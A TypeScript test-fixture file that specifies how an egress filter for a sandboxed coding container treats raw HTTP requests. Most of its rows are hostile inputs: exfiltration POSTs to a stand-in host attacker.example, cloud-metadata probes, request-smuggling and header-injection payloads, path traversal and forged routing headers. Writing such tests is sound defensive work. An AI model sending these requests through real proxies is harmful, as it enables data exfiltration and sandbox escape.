/**
 * What a container may put on the wire, byte for byte, and what comes of it. The grant is `exampleGrant` in the phase `run`: it may fetch
 * Acme/Split-Bill and acme/shared.css, read docs.example.com, and ask OpenAI. Rows are the specification of what the platform's parser and our decision
 * make of hostile bytes together; a row whose outcome is workerd's own refusal has no rule.
 */
import { gzipSync } from 'node:zlib';
import { recordedBodies } from '../egress/fixtures.ts';

export interface Row {
  readonly name: string;
  /** github.com unless told otherwise; null for plain HTTP. */
  readonly sni?: string | null;
  readonly destination?: string;
  readonly pieces: readonly (string | Uint8Array)[];
  readonly hangUp?: true;
  readonly bodiless?: true;
  /** Status of each answer, in order. */
  readonly statuses: readonly number[];
  /** What was recorded of it: `allowed` or `denied`, and the rule. */
  readonly rules: readonly string[];
  /** What reached an upstream. */
  readonly upstream: readonly string[];
  /** Bytes of the last body that reached an upstream, where that is the point. */
  readonly body?: number;
}

const crlf = '\r\n';
/** A request's head, ended. Header lines as they are given, in their order. */
const head = (line: string, ...headers: string[]): string => [line, ...headers, '', ''].join(crlf);
const refs = '/acme/split-bill.git/info/refs?service=git-upload-pack';
const host = 'Host: github.com';
const pack = 'Content-Type: application/x-git-upload-pack-request';
const packPath = '/acme/split-bill/git-upload-pack';
const reachedRefs = 'GET /github/Acme/Split-Bill.git/info/refs?service=git-upload-pack';
const reachedPack = 'POST /github/Acme/Split-Bill.git/git-upload-pack';
const allowedRefs = { statuses: [200], rules: ['allowed github.info-refs'], upstream: [reachedRefs] };
const allowedPack = { statuses: [200], rules: ['allowed github.upload-pack'], upstream: [reachedPack] };
const denied = (rule: string, status = 403) => ({
  statuses: [status],
  rules: [`denied ${rule}`],
  upstream: [],
});
/** Refused before our handler, by workerd's own parser. */
const malformed = { statuses: [400], rules: [], upstream: [] };
/** The same, where workerd gives up with an error of its own. */
const broken = { statuses: [500], rules: [], upstream: [] };
const unknownMethod = { statuses: [501], rules: [], upstream: [] };
/** Not answered at all: the connection is closed, or workerd still waits for the rest. */
const unanswered = { statuses: [], rules: [], upstream: [] };

const get = (path: string, ...headers: string[]) => [head(`GET ${path} HTTP/1.1`, host, ...headers)];

const wanted = '0032want 0000000000000000000000000000000000000000\n00000009done\n';
const chunked = (...parts: string[]) =>
  `${parts.map((part) => `${Buffer.byteLength(part).toString(16)}${crlf}${part}${crlf}`).join('')}0${crlf}${crlf}`;

const [codexBody = ''] = recordedBodies('tools-at-top-level');
const openai = (body: string | Uint8Array, ...headers: string[]) => [
  head(
    'POST /v1/responses HTTP/1.1',
    'Host: api.openai.com',
    'Content-Type: application/json',
    `Content-Length: ${Buffer.byteLength(body)}`,
    ...headers,
  ),
  body,
];

const allowedRows: Row[] = [
  { name: 'a fetch begins', pieces: get(refs), ...allowedRefs },
  {
    name: 'a fetch over plain HTTP',
    sni: null,
    destination: '203.0.113.7:80',
    pieces: get(refs),
    ...allowedRefs,
  },
  {
    name: 'a fetch in pieces of a few bytes',
    pieces: get(refs)[0]?.match(/[^]{1,7}/g) ?? [],
    ...allowedRefs,
  },
  {
    name: 'a fetch that brings a credential and a cookie of its own',
    pieces: get(
      refs,
      'Authorization: Basic YXR0YWNrZXI6Z2hwX293bg==',
      'Cookie: user_session=own',
      'Proxy-Authorization: Basic eA==',
    ),
    ...allowedRefs,
  },
  {
    name: 'the credential twice, in odd case',
    pieces: get(refs, 'aUTHORIZATION: Basic YQ==', 'Authorization: Bearer b'),
    ...allowedRefs,
  },
  {
    name: 'a pack is asked for',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, `Content-Length: ${wanted.length}`), wanted],
    ...allowedPack,
  },
  {
    name: 'a pack is asked for in chunks',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, 'Transfer-Encoding: chunked'),
      chunked(wanted.slice(0, 20), wanted.slice(20)),
    ],
    ...allowedPack,
  },
  {
    name: 'a pack is asked for with a compressed body',
    pieces: [
      head(
        `POST ${packPath} HTTP/1.1`,
        host,
        pack,
        'Content-Encoding: gzip',
        `Content-Length: ${gzipSync(wanted).length}`,
      ),
      gzipSync(wanted),
    ],
    ...allowedPack,
  },
  {
    name: 'a pack is asked for after 100-continue',
    pieces: [
      head(
        `POST ${packPath} HTTP/1.1`,
        host,
        pack,
        `Content-Length: ${wanted.length}`,
        'Expect: 100-continue',
      ),
      wanted,
    ],
    ...allowedPack,
  },
  {
    name: 'Codex asks the model',
    sni: 'api.openai.com',
    pieces: openai(codexBody),
    statuses: [200],
    rules: ['allowed openai.responses'],
    upstream: ['POST /openai/v1/responses'],
  },
  {
    name: 'two requests down one connection',
    pieces: [...get(refs), ...get(refs)],
    statuses: [200, 200],
    rules: ['allowed github.info-refs', 'allowed github.info-refs'],
    upstream: [reachedRefs, reachedRefs],
  },
  {
    name: 'the canary',
    sni: 'canary.airlock.invalid',
    pieces: [head('GET /d2f1c0ffee HTTP/1.1', 'Host: canary.airlock.invalid')],
    statuses: [200],
    rules: ['allowed canary'],
    upstream: [],
  },
];

const hostRows: Row[] = [
  {
    name: 'another host',
    sni: 'attacker.example',
    pieces: [head('GET / HTTP/1.1', 'Host: attacker.example')],
    ...denied('host.not-granted'),
  },
  {
    name: 'another host over plain HTTP',
    sni: null,
    destination: '203.0.113.7:80',
    pieces: [head('POST /x HTTP/1.1', 'Host: attacker.example', 'Content-Length: 6'), 'secret'],
    ...denied('host.not-granted'),
  },
  {
    name: 'an address instead of a host',
    sni: null,
    destination: '169.254.169.254:80',
    pieces: [head('GET /latest/meta-data HTTP/1.1', 'Host: 169.254.169.254')],
    ...denied('host.not-granted'),
  },
  {
    name: 'GitHub’s API',
    sni: 'api.github.com',
    pieces: [head('GET /user HTTP/1.1', 'Host: api.github.com')],
    ...denied('host.not-granted'),
  },
  {
    name: 'GitHub’s raw files',
    sni: 'raw.githubusercontent.com',
    pieces: [head('GET /acme/split-bill/main/README.md HTTP/1.1', 'Host: raw.githubusercontent.com')],
    ...denied('host.not-granted'),
  },
  {
    name: 'a host that ends like GitHub',
    sni: 'github.com.attacker.example',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: github.com.attacker.example')],
    ...denied('host.not-granted'),
  },
  {
    name: 'a host that begins like GitHub',
    sni: 'notgithub.com',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: notgithub.com')],
    ...denied('host.not-granted'),
  },
  {
    name: 'GitHub with a dot after it',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: github.com.')],
    ...denied('host.not-granted'),
  },
  {
    name: 'GitHub in capitals is GitHub',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: GITHUB.COM')],
    ...allowedRefs,
  },
  {
    name: 'GitHub at its own port is GitHub',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: github.com:443')],
    ...allowedRefs,
  },
  {
    name: 'GitHub at another port',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: github.com:8443')],
    ...denied('url.port'),
  },
  {
    name: 'a user name before the host',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: attacker@github.com')],
    ...denied('url.userinfo'),
  },
  {
    name: 'a host that is no name',
    pieces: [head(`GET ${refs} HTTP/1.1`, 'Host: github.com/../attacker.example')],
    ...denied('url.host-mismatch', 400),
  },
  { name: 'an empty host', pieces: [head(`GET ${refs} HTTP/1.1`, 'Host:')], ...denied('host.not-granted') },
  { name: 'no host', pieces: [head(`GET ${refs} HTTP/1.1`)], ...denied('host.not-granted') },
  { name: 'HTTP/1.0 without a host', pieces: [head(`GET ${refs} HTTP/1.0`)], ...denied('host.not-granted') },
];

const mismatchRows: Row[] = [
  {
    name: 'a handshake with an attacker, a request to GitHub',
    sni: 'attacker.example',
    pieces: get(refs),
    ...allowedRefs,
  },
  {
    name: 'a handshake with GitHub, a request to an attacker',
    pieces: [head('GET / HTTP/1.1', 'Host: attacker.example')],
    ...denied('host.not-granted'),
  },
  {
    name: 'a connection to an address, a request to GitHub',
    destination: '198.51.100.9:443',
    pieces: get(refs),
    ...allowedRefs,
  },
  {
    name: 'an absolute URL and the same host',
    pieces: [head(`GET https://github.com${refs} HTTP/1.1`, host)],
    ...allowedRefs,
  },
  {
    name: 'an absolute URL of an attacker, GitHub as host',
    pieces: [head('GET https://attacker.example/ HTTP/1.1', host)],
    ...denied('url.host-mismatch', 400),
  },
  {
    name: 'an absolute URL of GitHub, an attacker as host',
    pieces: [head(`GET https://github.com${refs} HTTP/1.1`, 'Host: attacker.example')],
    ...denied('url.host-mismatch', 400),
  },
  {
    name: 'an absolute URL with a user name',
    pieces: [head(`GET https://x:y@github.com${refs} HTTP/1.1`, host)],
    ...denied('url.userinfo'),
  },
  {
    name: 'an absolute URL with another port',
    pieces: [head(`GET https://github.com:8443${refs} HTTP/1.1`, host)],
    ...denied('url.port'),
  },
  {
    name: 'an absolute URL of another scheme',
    pieces: [head('GET ftp://github.com/acme HTTP/1.1', host)],
    ...denied('url.scheme'),
  },
  {
    name: 'the sidecar’s own headers, forged',
    pieces: get(refs, 'X-Tls-Sni: attacker.example', 'X-Hostname: attacker.example', 'X-Dst-Addr: 1.2.3.4:1'),
    ...allowedRefs,
  },
  {
    name: 'the one-machine gateway’s header, forged',
    pieces: get(refs, 'X-Airlock-Sni: attacker.example'),
    ...denied('url.sni-mismatch', 400),
  },
  {
    name: 'the one-machine door’s headers, forged',
    pieces: get(
      '/acme/other.git/info/refs?service=git-upload-pack',
      `X-Airlock-Sandbox: ${'a'.repeat(64)}`,
      'X-Airlock-Token: x',
    ),
    ...denied('github.repository'),
  },
];

const framingRows: Row[] = [
  { name: 'two hosts', pieces: get(refs, 'Host: attacker.example'), ...broken },
  { name: 'two equal hosts', pieces: get(refs, host), ...broken },
  {
    name: 'two lengths',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: 5', 'Content-Length: 6'),
      'secret',
    ],
    ...broken,
  },
  {
    name: 'a length that is none',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: 6x'), 'secret'],
    ...broken,
  },
  {
    name: 'a negative length',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: -1'), 'secret'],
    ...broken,
  },
  {
    name: 'a length with a sign',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: +6'), 'secret'],
    ...broken,
  },
  {
    name: 'a length and chunks, and a request hidden behind them',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: 4', 'Transfer-Encoding: chunked'),
      `0${crlf}${crlf}`,
      head('GET /attacker/loot HTTP/1.1', host),
    ],
    statuses: [400, 403],
    rules: ['denied http.content-length', 'denied github.path'],
    upstream: [],
  },
  {
    name: 'an unknown transfer coding',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, 'Transfer-Encoding: xchunked'), chunked('secret')],
    ...broken,
  },
  {
    name: 'two transfer codings',
    pieces: [
      head(
        `POST ${packPath} HTTP/1.1`,
        host,
        pack,
        'Transfer-Encoding: chunked',
        'Transfer-Encoding: identity',
      ),
      chunked('secret'),
    ],
    ...broken,
  },
  {
    name: 'a transfer coding with a space before the colon',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, 'Transfer-Encoding : chunked', 'Content-Length: 3'),
      '0\r\n',
    ],
    ...malformed,
  },
  {
    name: 'chunks whose size is no number, of which nothing is passed on',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, 'Transfer-Encoding: chunked'),
      `zz${crlf}secret${crlf}0${crlf}${crlf}`,
    ],
    ...allowedPack,
    body: 0,
  },
  {
    name: 'two equal lengths in one header',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: 6, 6'), 'secret'],
    ...broken,
  },
  {
    name: 'a header in the trailer, which is read as another request',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, 'Transfer-Encoding: chunked'),
      '4\r\n0000\r\n0\r\nAuthorization: Basic eA==\r\n\r\n',
    ],
    ...allowedPack,
    statuses: [200, 501],
    body: 4,
  },
  {
    name: 'headers that name the credential as the connection’s own',
    pieces: get(refs, 'Connection: close, Authorization', 'Keep-Alive: x'),
    ...allowedRefs,
  },
  {
    name: 'hosts in other headers',
    pieces: get(
      refs,
      'X-Forwarded-Host: attacker.example',
      'Forwarded: host=attacker.example',
      'X-Original-URL: /attacker/loot',
    ),
    ...allowedRefs,
  },
  {
    name: 'a head without end',
    pieces: [`GET ${refs} HTTP/1.1${crlf}X: `, 'x'.repeat(300_000)],
    statuses: [431],
    rules: [],
    upstream: [],
  },
  { name: 'a folded header', pieces: get(refs, 'X-A: b', '\tAuthorization: Basic eA=='), ...malformed },
  { name: 'a header without a name', pieces: get(refs, ': x'), ...malformed },
  { name: 'a NUL in a header', pieces: get(refs, 'User-Agent: a\0b'), ...malformed },
  {
    name: 'a bare line feed that would begin a header',
    pieces: get(refs, 'User-Agent: a\nX-Injected: b'),
    ...allowedRefs,
  },
  {
    name: 'a bare carriage return that would begin a header',
    pieces: get(refs, 'User-Agent: a\rAuthorization: Basic eA=='),
    ...allowedRefs,
  },
  {
    name: 'a request hidden in the body of an allowed one',
    pieces: [
      head(`POST ${packPath} HTTP/1.1`, host, pack, `Content-Length: ${wanted.length}`),
      wanted,
      head('GET /attacker/loot.git/info/refs?service=git-upload-pack HTTP/1.1', host),
    ],
    statuses: [200, 403],
    rules: ['allowed github.upload-pack', 'denied github.repository'],
    upstream: [reachedPack],
  },
  {
    name: 'another host down a connection that was allowed one',
    pieces: [...get(refs), head('GET /secret HTTP/1.1', 'Host: attacker.example')],
    statuses: [200, 403],
    rules: ['allowed github.info-refs', 'denied host.not-granted'],
    upstream: [reachedRefs],
  },
  {
    name: 'an allowed request behind a denied one with a body',
    pieces: [head('POST /attacker/loot HTTP/1.1', host, 'Content-Length: 6'), 'secret', ...get(refs)],
    statuses: [403, 200],
    rules: ['denied github.path', 'allowed github.info-refs'],
    upstream: [reachedRefs],
  },
  {
    name: 'a request broken off in its head',
    pieces: ['GET /acme/split-bill.git/info/re'],
    hangUp: true,
    ...unanswered,
  },
  {
    name: 'no HTTP at all',
    pieces: ['\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
    hangUp: true,
    ...unanswered,
  },
  {
    name: 'HTTP/2 with prior knowledge',
    pieces: ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', new Uint8Array([0, 0, 0, 4, 0, 0, 0, 0, 0])],
    ...unknownMethod,
  },
];

const methodRows: Row[] = [
  {
    name: 'CONNECT inside',
    pieces: [head('CONNECT attacker.example:443 HTTP/1.1', 'Host: attacker.example:443')],
    ...unknownMethod,
  },
  {
    name: 'CONNECT to GitHub inside',
    pieces: [head('CONNECT github.com:443 HTTP/1.1', 'Host: github.com:443')],
    ...unknownMethod,
  },
  {
    name: 'Upgrade to a WebSocket',
    sni: 'api.openai.com',
    pieces: [
      head(
        'GET /v1/responses HTTP/1.1',
        'Host: api.openai.com',
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      ),
    ],
    ...denied('http.upgrade', 426),
  },
  {
    name: 'Upgrade to HTTP/2',
    pieces: get(refs, 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk'),
    ...denied('http.upgrade', 426),
  },
  { name: 'TRACE', pieces: [head(`TRACE ${refs} HTTP/1.1`, host)], ...denied('github.method') },
  { name: 'OPTIONS of everything', pieces: [head('OPTIONS * HTTP/1.1', host)], ...broken },
  {
    name: 'DELETE',
    pieces: [head('DELETE /acme/split-bill.git/info/refs HTTP/1.1', host)],
    ...denied('github.method'),
  },
  { name: 'HEAD', bodiless: true, pieces: [head(`HEAD ${refs} HTTP/1.1`, host)], ...denied('github.method') },
  { name: 'a method nobody knows', pieces: [head(`EXFIL ${refs} HTTP/1.1`, host)], ...unknownMethod },
  { name: 'a method in small letters', pieces: [head(`get ${refs} HTTP/1.1`, host)], ...unknownMethod },
  {
    name: 'another expectation',
    pieces: [head(`POST ${packPath} HTTP/1.1`, host, pack, 'Content-Length: 0', 'Expect: 200-ok')],
    ...denied('http.expect', 417),
  },
  {
    name: 'GET with a body',
    pieces: [head(`GET ${refs} HTTP/1.1`, host, 'Content-Length: 6'), 'secret'],
    ...denied('http.body', 400),
  },
];

const pathRows: Row[] = [
  {
    name: 'a push',
    pieces: [
      head(
        'POST /acme/split-bill.git/git-receive-pack HTTP/1.1',
        host,
        'Content-Type: application/x-git-receive-pack-request',
        'Content-Length: 4',
      ),
      '0000',
    ],
    ...denied('github.receive-pack'),
  },
  {
    name: 'a push begins',
    pieces: get('/acme/split-bill.git/info/refs?service=git-receive-pack'),
    ...denied('github.receive-pack'),
  },
  {
    name: 'a push with a credential of one’s own',
    pieces: get(
      '/attacker/loot.git/info/refs?service=git-receive-pack',
      'Authorization: Basic YXR0YWNrZXI6Z2hwX293bg==',
    ),
    ...denied('github.receive-pack'),
  },
  {
    name: 'both services at once',
    pieces: get(`${refs}&service=git-receive-pack`),
    ...denied('github.receive-pack'),
  },
  {
    name: 'another repository',
    pieces: get('/attacker/loot.git/info/refs?service=git-upload-pack'),
    ...denied('github.repository'),
  },
  {
    name: 'another repository of the same owner',
    pieces: get('/acme/split-bill-private.git/info/refs?service=git-upload-pack'),
    ...denied('github.repository'),
  },
  {
    name: 'dot segments out of the repository',
    pieces: get('/acme/split-bill.git/../../attacker/loot.git/info/refs?service=git-upload-pack'),
    ...denied('github.repository'),
  },
  {
    name: 'dot segments back into the repository, which are resolved',
    pieces: get('/attacker/loot/../../acme/split-bill.git/info/refs?service=git-upload-pack'),
    ...allowedRefs,
  },
  {
    name: 'encoded dot segments',
    pieces: get('/acme/split-bill.git/%2e%2e/%2e%2e/attacker/loot.git/info/refs?service=git-upload-pack'),
    ...denied('github.repository'),
  },
  {
    name: 'encoded slashes',
    pieces: get('/acme%2fsplit-bill.git/info/refs?service=git-upload-pack'),
    ...denied('github.path'),
  },
  {
    name: 'an encoded letter',
    pieces: get('/acme/split-bil%6c.git/info/refs?service=git-upload-pack'),
    ...denied('github.path'),
  },
  {
    name: 'an encoded question mark',
    pieces: get('/acme/split-bill.git/info/refs%3fservice=git-upload-pack'),
    ...denied('github.path'),
  },
  { name: 'two slashes at the beginning', pieces: get(`/${refs}`), ...denied('url.host-mismatch', 400) },
  {
    name: 'an authority at the beginning of the path',
    pieces: get('//attacker.example/acme/split-bill.git/info/refs?service=git-upload-pack'),
    ...denied('url.host-mismatch', 400),
  },
  {
    name: 'two slashes within',
    pieces: get('/acme//split-bill.git/info/refs?service=git-upload-pack'),
    ...denied('github.path'),
  },
  {
    name: 'a dot after the name',
    pieces: get('/acme/split-bill./info/refs?service=git-upload-pack'),
    ...denied('github.repository'),
  },
  // workerd reads a URL as the URL standard does before our handler sees it: what is decided on, and rebuilt for upstream, is what it came to.
  {
    name: 'a backslash, which is read as a slash',
    pieces: get('/acme\\split-bill.git/info/refs?service=git-upload-pack'),
    ...allowedRefs,
  },
  { name: 'a fragment', pieces: get(`${refs}#x`), ...denied('url.fragment', 400) },
  {
    name: 'bytes beyond ASCII',
    pieces: [
      Buffer.from(
        head('GET /acme/split-bill\xff.git/info/refs?service=git-upload-pack HTTP/1.1', host),
        'latin1',
      ),
    ],
    ...denied('github.path'),
  },
  {
    name: 'a line end in the path',
    pieces: get('/acme/split-bill.git/info/refs?service=git-upload-pack%0d%0aHost:%20attacker.example'),
    ...denied('github.query'),
  },
  {
    name: 'a space in the path',
    pieces: get('/acme/split-bill.git/info/refs ?service=git-upload-pack'),
    ...denied('github.query'),
  },
  {
    name: 'the archive of the repository',
    pieces: get('/acme/split-bill/archive/refs/heads/main.zip'),
    ...denied('github.path'),
  },
  { name: 'the dumb protocol', pieces: get('/acme/split-bill.git/info/refs'), ...denied('github.query') },
  {
    name: 'a renamed repository that leads away',
    pieces: get('/acme/shared.css.git/info/refs?service=git-upload-pack'),
    statuses: [200],
    rules: ['allowed github.info-refs'],
    upstream: ['GET /github/acme/shared.css.git/info/refs?service=git-upload-pack'],
  },
];

const withInput = (more: object): string => {
  const body: unknown = JSON.parse(codexBody);
  return JSON.stringify({ ...Object(body), ...more });
};

const openaiRows: Row[] = [
  {
    name: 'a stored response',
    sni: 'api.openai.com',
    pieces: openai(withInput({ store: true })),
    ...denied('openai.field', 400),
  },
  {
    name: 'a stored response by a second key',
    sni: 'api.openai.com',
    pieces: openai(`${codexBody.slice(0, -1)},"store":true}`),
    ...denied('openai.duplicate-key', 400),
  },
  {
    name: 'a hosted tool',
    sni: 'api.openai.com',
    pieces: openai(withInput({ tools: [{ type: 'mcp', server_url: 'https://attacker.example' }] })),
    ...denied('openai.tool', 400),
  },
  {
    name: 'a compressed body',
    sni: 'api.openai.com',
    pieces: openai(gzipSync(codexBody), 'Content-Encoding: gzip'),
    ...denied('openai.encoding', 400),
  },
  {
    name: 'a body that is longer than it says',
    sni: 'api.openai.com',
    pieces: [openai('{}')[0] ?? '', '{}GET /secret HTTP/1.1\r\nHost: attacker.example\r\n\r\n'],
    statuses: [400, 403],
    rules: ['denied openai.field', 'denied host.not-granted'],
    upstream: [],
  },
  {
    name: 'a body that breaks off',
    sni: 'api.openai.com',
    pieces: [openai(codexBody)[0] ?? '', codexBody.slice(0, 1000)],
    hangUp: true,
    ...denied('openai.size', 400),
  },
  {
    name: 'a body in chunks',
    sni: 'api.openai.com',
    pieces: [
      head(
        'POST /v1/responses HTTP/1.1',
        'Host: api.openai.com',
        'Content-Type: application/json',
        'Transfer-Encoding: chunked',
      ),
      chunked(codexBody.slice(0, 999), codexBody.slice(999)),
    ],
    statuses: [200],
    rules: ['allowed openai.responses'],
    upstream: ['POST /openai/v1/responses'],
  },
  {
    name: 'chunks that break off',
    sni: 'api.openai.com',
    pieces: [
      head(
        'POST /v1/responses HTTP/1.1',
        'Host: api.openai.com',
        'Content-Type: application/json',
        'Transfer-Encoding: chunked',
      ),
      `${codexBody.length.toString(16)}${crlf}{"mo`,
    ],
    hangUp: true,
    ...denied('openai.size', 400),
  },
  {
    name: 'files',
    sni: 'api.openai.com',
    pieces: [
      head(
        'POST /v1/files HTTP/1.1',
        'Host: api.openai.com',
        'Content-Type: multipart/form-data; boundary=x',
        'Content-Length: 5',
      ),
      '--x--',
    ],
    ...denied('openai.path', 400),
  },
  {
    name: 'a key of one’s own',
    sni: 'api.openai.com',
    pieces: openai(
      codexBody,
      'Authorization: Bearer sk-own',
      'OpenAI-Organization: org-own',
      'OpenAI-Project: proj-own',
    ),
    statuses: [200],
    rules: ['allowed openai.responses'],
    upstream: ['POST /openai/v1/responses'],
  },
];

const portRows: Row[] = [22, 53, 853, 3000, 8080, 8443].map((port) => ({
  name: `port ${port}`,
  sni: null,
  destination: `203.0.113.7:${port}`,
  pieces: get(refs),
  ...unanswered,
}));

export const groups: Readonly<Record<string, readonly Row[]>> = {
  'what is allowed': allowedRows,
  'other hosts, and odd spellings of the right one': hostRows,
  'handshake, host and URL that disagree': mismatchRows,
  'framing, smuggling and injection': framingRows,
  'methods, tunnels and upgrades': methodRows,
  'paths and repositories': pathRows,
  'requests to the model': openaiRows,
  'other ports': portRows,
};
